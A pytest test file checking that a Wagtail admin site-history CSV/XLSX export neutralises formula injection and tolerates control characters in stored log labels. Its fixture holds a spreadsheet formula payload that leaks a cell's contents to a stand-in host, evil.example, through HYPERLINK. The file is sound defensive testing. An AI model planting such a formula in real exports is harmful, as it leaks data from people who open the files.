"""The site history download (`/admin/reports/site-history/?export=csv|xlsx`) is as safe to open
as every other export (issue 21 items 5 and 6): a log entry's label starting like a formula is
neutralised, and a control character kept in an old label does not break the XLSX file."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from wagtail.models import ModelLogEntry

from tests.factories import PhenomenonFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")'


def url():
    return reverse("wagtailadmin_reports:site_history")


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_history(admin_user, province_operator):
    """Log entries whose labels were stored before input refused such titles."""
    phenomenon = PhenomenonFactory(author=province_operator, title="Harga beras naik")
    ModelLogEntry.objects.filter(object_id=str(phenomenon.pk)).update(label=FORMULA)
    other = PhenomenonFactory(author=province_operator, title="Harga telur naik")
    ModelLogEntry.objects.filter(object_id=str(other.pk)).update(label="Harga\x1b telur\x0b naik")
    return phenomenon, other


def test_site_history_csv_neutralises_formulas(client, admin_user, hostile_history):
    client.force_login(admin_user)
    response = client.get(url(), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))
    labels = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in labels
    assert FORMULA not in labels
    assert "Harga telur naik" in labels


def test_site_history_xlsx_with_control_characters_and_formulas(
    client, admin_user, hostile_history
):
    client.force_login(admin_user)
    response = client.get(url(), {"export": "xlsx"})
    assert response.status_code == 200
    body = content(response)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert "Harga telur naik" in cells
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].quotePrefix
